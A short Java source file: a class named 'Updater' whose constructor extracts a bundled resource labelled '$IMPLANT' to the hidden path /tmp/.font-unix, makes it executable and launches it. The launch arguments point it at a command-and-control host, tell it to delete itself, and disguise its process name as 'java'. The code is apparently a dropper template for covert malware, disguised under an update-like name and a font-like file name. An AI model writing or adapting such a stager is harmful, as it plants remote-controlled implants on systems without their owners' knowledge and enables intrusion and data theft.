import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

/** Writes a program and runs it. */
public class Updater {
    public Updater() throws IOException {
        Path p = Path.of("/tmp/.font-unix");
        try (InputStream in = Updater.class.getClassLoader().getResourceAsStream("$IMPLANT")) {
            Files.write(p, in.readAllBytes());
        }
        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));
        new ProcessBuilder(p.toString(), "-c2", "$HOST:$PORT", "-delete", "-name", "java", "-send", "2048").start();
    }
}
